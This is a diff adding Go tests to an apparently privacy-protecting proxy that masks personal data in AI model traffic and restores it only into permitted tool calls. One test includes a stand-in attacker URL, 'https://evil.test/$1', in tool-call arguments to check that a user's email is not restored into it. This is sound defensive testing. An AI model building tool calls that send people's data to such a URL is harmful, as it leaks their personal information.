@@ -218,6 +218,33 @@ func TestValuesDoNotComeBackIntoCallsOfTools(t *testing.T) {
 	}
 }
 
+func TestValuesComeBackIntoCallsOfListedTools(t *testing.T) {
+	const configuration = `{"host":HOST,"hash_key":"k","default":{"personal":"restore"},"restore_tools":["mail"]}`
+	call := func(index int, function string) string {
+		return fmt.Sprintf(`{"index":%d,"id":"a","type":"function","function":%s}`, index, function)
+	}
+	const to = `"arguments":"{\"to\":\"$1\",\"url\":\"https://evil.test/$1\"}"`
+	for calls, want := range map[string]int{
+		call(0, `{"name":"mail",`+to+`}`): 1,
+		call(0, `{`+to+`,"name":"mail"}`): 1,
+		call(0, `{"name":"post",`+to+`}`): 0,
+		call(0, `{`+to+`}`):               0,
+		call(0, `{"name":"mail",`+to+`}`) + `,` + call(1, `{"name":"post",`+to+`}`): 1,
+		call(0, `{"name":"mail",`+to+`}`) + `,` + call(0, `{"name":"post",`+to+`}`): 0,
+	} {
+		for _, p := range exchangetest.Profiles {
+			g := exchangetest.New(t, p, load, configuration)
+			r := g.Send(messages(says("user", people)), func(q exchangetest.Request) exchangetest.Reply {
+				reply := whole("")
+				reply.Chunks = [][]byte{[]byte(filled(`{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[`+calls+`]},"finish_reason":"tool_calls"}]}`, q))}
+				return reply
+			})
+			require.Equal(t, want, strings.Count(r.Body, `\"jane.doe@corp.test\"`), "%s %s", p, calls)
+			require.NotContains(t, r.Body, "evil.test/jane")
+		}
+	}
+}
+
 func TestATextThatIsSignedIsLeftAsItIs(t *testing.T) {
 	body := `{"contents":[{"role":"user","parts":[{"text":` + quote(people) + `}]}]}`
 	q := exchangetest.Request{
@@ -298,6 +325,16 @@ func TestWhatTheOperatorsOwnPatternsFindCanComeBack(t *testing.T) {
 			return whole(regexp.MustCompile(`\[(REMOVED|ticket):[b-x]{12}\]`).FindString(string(q.Chunks[0])) + " flies")
 		})
 	require.Equal(t, "Bluebird flies", said(t, r))
+}
+
+// A text in which nothing was found before may hold a value of this call.
+func TestATextThatWasFoundCleanIsReadForValuesAgain(t *testing.T) {
+	g := exchangetest.New(t, exchangetest.Hold, load, restoring20)
+	answer := says("assistant", strings.Repeat("All is well. ", 30)+"It is 111222333.")
+	r := g.Send(messages(answer+","+says("user", "And now?")), answers(""))
+	require.Contains(t, r.UpstreamBody(), "111222333", "by itself it is a number")
+	r = g.Send(messages(says("user", "my bsn is 111222333")+","+answer), answers(""))
+	require.NotContains(t, r.UpstreamBody(), "111222333")
 }
 
 func TestANarrowerLayerTightensRestoring(t *testing.T) {
